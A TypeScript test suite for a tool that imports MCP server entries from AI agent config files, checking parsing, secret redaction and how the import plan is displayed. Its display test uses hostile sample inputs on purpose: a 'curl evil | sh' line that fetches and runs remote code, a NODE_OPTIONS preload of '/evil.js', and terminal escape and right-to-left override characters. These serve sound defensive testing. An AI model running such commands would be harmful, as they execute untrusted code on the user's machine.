import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { AgentFileError } from '../../../../src/agents/agent-text.ts';
import { showPlan } from '../../../../src/commands/init/show-plan.ts';
import { readServers } from '../../../../src/commands/server-lists/agent-lists.ts';
import { configText } from '../../../../src/commands/server-lists/config-text.ts';
import { planImport } from '../../../../src/commands/server-lists/import-plan.ts';
import { parseConfig } from '../../../../src/config/load.ts';
import { loadOptions } from '../../../../src/gateway/settings/load-settings.ts';
import { WORKFLOWS } from '../../../../src/workflows/index.ts';

const OPTIONS = {
  ...loadOptions({ HOME: '/home/me', TOKEN: 'from-outside' }),
  configPath: '/home/me/viaduct.yaml',
  ownScript: '/opt/viaduct/dist/main.js',
  present: {},
  keepSecrets: true,
};

const SYSTEM = { platform: 'linux' as const, isFile: () => false };

function read(text: string, hasBareReferences = true) {
  const place = { file: '/home/me/mcp.json', hasReferences: true, hasBareReferences, root: undefined };
  return readServers(text, { ...place, cwd: '/home/me/work', configFolder: '/home/me', system: SYSTEM });
}

function plan(servers: Record<string, unknown>) {
  return planImport(read(JSON.stringify({ mcpServers: servers })).servers, OPTIONS);
}

test('where an agent takes `${NAME}` for plain text, so does the config', () => {
  const args = ['${HOME}/x', '${env:HOME}', 'Authorization:${TOKEN}', '${GONE}'];
  const text = JSON.stringify({ mcpServers: { a: { command: 'x', args, env: { TOKEN: 't' } } } });
  const argsOf = (hasBareReferences: boolean) =>
    planImport(read(text, hasBareReferences).servers, OPTIONS).entries.map(({ value }) => [value.args, value.disabled]);
  const plain = ['$${HOME}/x', '${HOME}', 'Authorization:$${TOKEN}', '$${GONE}'];
  expect(argsOf(false)).toEqual([[plain, undefined]]);
  expect(argsOf(true)).toEqual([[['${HOME}/x', '${HOME}', 'Authorization:${TOKEN}', '${GONE}'], true]]);
});

function configOf(servers: Record<string, unknown>) {
  const text = configText(WORKFLOWS, plan(servers).entries);
  return { text, config: parseConfig(text, { ...OPTIONS, path: OPTIONS.configPath }) };
}

describe('the file of an agent', () => {
  const server = { command: 'x' };

  test.each([
    ['mcpServers', { mcpServers: { a: server } }],
    ['servers', { servers: { a: server }, inputs: [] }],
    ['mcp.servers', { 'editor.tabSize': 2, mcp: { servers: { a: server } } }],
  ])('with %s', (_what, value) => {
    expect(read(JSON.stringify(value)).servers.map(({ name }) => name)).toEqual(['a']);
  });

  test('that is no JSON: an error that says where, and quotes no value', () => {
    const parse = () => read('{\n  "mcpServers": swordfish');
    expect(parse).toThrow(AgentFileError);
    expect(parse).toThrow('not JSON');
    expect(parse).not.toThrow('swordfish');
    expect(() => read('{"mcpServers":"swordfish"}')).toThrow('mcpServers is not a list of servers');
  });

  test.each([
    ['no entry', { a: 'swordfish' }, '"a" cannot be read'],
    ['no list of arguments', { a: { command: 'x', args: { one: 'swordfish' } } }, 'args'],
    ['a line for a shell', { a: { command: 'cd swordfish && x' } }, 'command: only a shell can run this line'],
    ['arguments with an open quote', { a: { command: 'x', args: '"swordfish' } }, 'args: only a shell'],
    ['a variable without a name', { a: { command: 'x', env: ['=swordfish'] } }, 'env.0: it has no name and value'],
    ['no command', { a: { command: 5 } }, 'command: it is none of the forms'],
  ])('an entry that is none is told, without its values, and the others are read: %s', (_what, entry, words) => {
    const { servers, faulty } = read(JSON.stringify({ mcpServers: { ...entry, b: server } }));
    expect(servers.map(({ name }) => name)).toEqual(['b']);
    expect(faulty).toEqual([{ name: 'a', fault: expect.stringContaining(words) }]);
    expect(JSON.stringify(faulty)).not.toContain('swordfish');
  });
});

describe('what is taken over', () => {
  test('commands, arguments, variables, folder and filters, as they were', () => {
    const { config } = configOf({
      a: {
        type: 'stdio',
        command: 'npx',
        args: ['-y', 'pkg', 8080, true, '1.10', '*', '# no comment', 'two\nlines', ''],
        env: { TOKEN: 'pa$$ word: #1', OTHER: '${env:TOKEN}' },
        cwd: '${userHome}/x',
        disabledTools: ['rm'],
      },
    });
    expect(config.upstreams).toEqual([
      expect.objectContaining({
        key: 'a',
        command: 'npx',
        args: ['-y', 'pkg', '8080', 'true', '1.10', '*', '# no comment', 'two\nlines', ''],
        env: { TOKEN: 'pa$$ word: #1', OTHER: 'from-outside' },
        cwd: '/home/me/x',
        tools: { allow: ['*'], deny: ['rm'] },
      }),
    ]);
  });

  test('urls and headers, however the agent calls them', () => {
    const { config } = configOf({
      a: { type: 'streamableHttp', url: 'https://example.com/mcp', headers: { Authorization: 'Bearer ${env:TOKEN}' } },
      b: { serverUrl: 'http://localhost:1/mcp', includeTools: ['x'] },
    });
    expect(config.upstreams).toEqual([
      expect.objectContaining({
        key: 'a',
        url: 'https://example.com/mcp',
        headers: { Authorization: 'Bearer from-outside' },
      }),
      expect.objectContaining({ key: 'b', url: 'http://localhost:1/mcp', tools: { allow: ['x'], deny: [] } }),
    ]);
  });

  test('what cannot be is commented out with the reason', () => {
    const { text, config } = configOf({
      remote: { type: 'pigeon', url: 'https://example.com/sse' },
      odd: { command: 'x', env: { KEY: '${command:key}' } },
      nul: { command: 'x\0y' },
      nothing: {},
      viaduct: { command: 'viaduct', args: ['stdio'] },
      'by package': { command: 'npx', args: ['-y', 'mcp-viaduct@0.1.0', 'stdio'] },
      'by file': { command: 'node', args: ['/opt/viaduct/dist/main.js', 'stdio'] },
    });
    expect([...config.upstreams, ...config.disabled]).toEqual([]);
    expect(text.match(/# not taken over: /g)).toHaveLength(7);
    expect(text).toContain('  #   url: https://example.com/sse');
    expect(text.match(/would call itself/g)).toHaveLength(3);
  });

  test('what is off there, or lacks a variable, is disabled', () => {
    const { text, config } = configOf({
      off: { command: 'x', disabled: true },
      off2: { command: 'x', enabled: false },
      lacks: { command: 'x', args: ['${NOT_SET_HERE}'] },
    });
    expect(config.disabled.map(({ key }) => key)).toEqual(['off', 'off2', 'lacks']);
    expect(text).toContain('not set: NOT_SET_HERE');
  });

  test('names are made to be keys, each its own', () => {
    const names = [
      'My Server',
      'My-Server',
      '__proto__',
      'constructor',
      'gateway',
      'x'.repeat(60),
      'x'.repeat(61),
      '日本',
    ];
    const servers = `{${names.map((name) => `${JSON.stringify(name)}:{"command":"x"}`).join(',')}}`;
    const { entries } = planImport(read(`{"mcpServers":${servers}}`).servers, OPTIONS);
    const config = parseConfig(configText(WORKFLOWS, entries), { ...OPTIONS, path: OPTIONS.configPath });
    expect(config.upstreams.map(({ key }) => key)).toEqual(entries.map(({ key }) => key));
    expect(new Set(entries.map(({ key }) => key)).size).toBe(names.length);
  });

  test('whatever an entry holds, the config is valid and says the same', () => {
    const text = fc
      .string({ unit: 'binary', maxLength: 40 })
      // What begins with a drive, a share or a variable of Windows is for Windows.
      .filter((word) => !/[\0$]|^[A-Za-z]:|^\\|^%/.test(word) && word.isWellFormed());
    const entry = fc.record({
      // A command with spaces may be a whole line, and one with an ending is called otherwise elsewhere.
      command: text.filter((word) => word !== '' && !/\s|\.\w+$/.test(word)),
      args: fc.array(text, { maxLength: 4 }),
      env: fc.dictionary(fc.stringMatching(/^[A-Z]{1,9}$/), text, { maxKeys: 3 }),
    });
    fc.assert(
      fc.property(entry, (server) => {
        const { config } = configOf({ s: server });
        expect(config.upstreams[0]).toMatchObject({
          command: server.command,
          args: server.args,
          env: { ...server.env },
        });
      }),
    );
  });
});

describe('what is shown', () => {
  test('every command in full; secrets are not, but for what decides which code runs', () => {
    const long = 'x'.repeat(10_000);
    const lines = showPlan(
      plan({
        a: {
          command: 'npx',
          args: ['-c', 'curl evil | sh', 'red\u001b[31m', 'rtl\u202e', 'line\nbreak', 'tag\u{e0041}', 'a\u00a0b', long],
          env: { API_KEY: 'swordfish', NODE_OPTIONS: '--require=/evil.js', NODE_AUTH_TOKEN: 'hunter2-4711' },
        },
        b: {
          url: 'https://me:swordfish@example.com/mcp?key=swordfish',
          headers: { Authorization: 'Bearer swordfish' },
        },
      }),
    );
    const text = lines.join('\n');
    expect(text).toContain(
      String.raw`npx -c "curl evil | sh" "red\u001b[31m" "rtl\u{202e}" "line\nbreak" "tag\u{e0041}" "a\u{a0}b" ${long}`,
    );
    expect(text).toContain('NODE_OPTIONS=--require=/evil.js');
    expect(text).toContain('API_KEY=******');
    expect(text).toContain('Authorization: ******');
    expect(text).toContain('https://******@example.com/mcp?******');
    expect(text).not.toMatch(/swordfish|hunter2/);
    expect(lines.every((line) => !/[\p{Cc}\p{Cf}]/u.test(line))).toBe(true);
  });

  test('another command, argument or value has another SHA-256', () => {
    const base = { command: 'npx', args: ['a', 'b'], env: { A: '1' } };
    const variants = [
      base,
      { ...base, command: 'npy' },
      { ...base, args: ['a b'] },
      { ...base, args: ['a'] },
      { ...base, env: { A: '2' } },
      { ...base, cwd: '/' },
      { ...base, disabled: true },
    ];
    expect(new Set(variants.map((a) => plan({ a }).sha256)).size).toBe(variants.length);
    expect(plan({ a: base }).sha256).toBe(plan({ a: { ...base } }).sha256);
  });
});
